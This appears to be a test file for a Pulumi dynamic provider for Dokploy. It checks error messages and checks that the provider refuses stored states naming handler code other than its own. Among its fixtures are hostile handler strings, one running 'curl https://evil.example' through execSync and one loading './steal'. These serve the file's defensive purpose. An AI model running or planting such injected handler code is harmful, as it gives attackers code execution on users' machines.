import * as assert from "node:assert/strict";
import { spawnSync } from "node:child_process";
import { join } from "node:path";
import { handlersText } from "../../provider/pulumi";

/** Plays what Pulumi's dynamic host does with an error, in a process of its own, as there. */
function host(script: string): { stdout: string; stderr: string } {
  const { DOKPLOY_URL: _u, DOKPLOY_API_KEY: _k, ...env } = process.env;
  const { stdout, stderr } = spawnSync(
    process.execPath,
    ["-e", `require("ts-node/register"); const { provider } = require("./provider/runtime"); ${script}`],
    { cwd: join(__dirname, "../.."), env: { ...env, TS_NODE_TRANSPILE_ONLY: "1" }, encoding: "utf8" },
  );
  return { stdout, stderr };
}

describe("the entry that states refer to", () => {
  it("gives an expected error its message, and leaves out the copy that Pulumi's host prints", () => {
    const { stdout, stderr } = host(`
      provider("Project").read("x", { name: "x" }).catch((e) => {
        console.error(\`\${e}: \${e.stack}\`);
        console.error("another error");
        console.log(e.message);
      });`);
    assert.match(stdout, /DOKPLOY_URL/);
    assert.equal(stderr, "another error\n");
  });

  it("gives an expected error of a check as a problem, of which Pulumi's host prints no copy", () => {
    const { stdout } = host(`
      provider("Project").check({}, { name: "x" }).then(({ failures }) => console.log(JSON.stringify(failures)));`);
    assert.match(stdout, /^\[\{"property":"","reason":".*DOKPLOY_URL/);
  });

  it("says that a state is newer than the package when it does not know a kind", () => {
    const { stdout } = host(`try { provider("Moon"); } catch (e) { console.log(e.message); }`);
    assert.match(stdout, /no resource "Moon".*update the package/);
  });

  describe("asked about a state that names other code as its handlers", () => {
    const text = handlersText("Project");
    const foreign = [
      "exports.handler=()=>require('child_process').execSync('curl https://evil.example')",
      handlersText("Application"),
      `${text};require("./steal")`,
      ` ${text}`,
      "",
      null,
      { toString: "x" },
    ];

    /** What each handler says to states with these texts. */
    function answers(texts: unknown[]): string[] {
      const { stdout } = host(`
        const news = { name: "shop", __provider: ${JSON.stringify(text)} };
        const all = provider("Project");
        (async () => {
          for (const text of ${JSON.stringify(texts)}) {
            const state = { name: "shop", __provider: text };
            const calls = {
              check: () => all.check(state, news), diff: () => all.diff("id", state, news),
              read: () => all.read("id", state), update: () => all.update("id", state, news),
              delete: () => all.delete("id", state),
            };
            for (const [name, call] of Object.entries(calls)) {
              const said = await call().then(
              (done) => done?.failures?.[0]?.reason ?? "done", (error) => error.message);
              console.log(JSON.stringify(name + ": " + said));
            }
          }
        })();`);
      return stdout
        .trim()
        .split("\n")
        .map((line) => JSON.parse(line) as string);
    }

    it("refuses before anything else is done, and does not repeat that code", () => {
      const said = answers(foreign);
      assert.equal(said.length, 5 * foreign.length);
      for (const line of said) {
        assert.match(line, /^\w+: Project "shop": the state names code other than .*Nothing was done/);
        assert.doesNotMatch(line, /evil|steal/);
      }
    });

    it("continues with the text that this package writes, and has written since 0.1.0", () => {
      assert.equal(
        text,
        'exports.handler=()=>require("node:module").createRequire(process.cwd()+"/")("pulumi-dokploy/runtime").provider("Project")',
      );
      for (const line of answers([text])) assert.doesNotMatch(line, /names code other/);
    });
  });
});
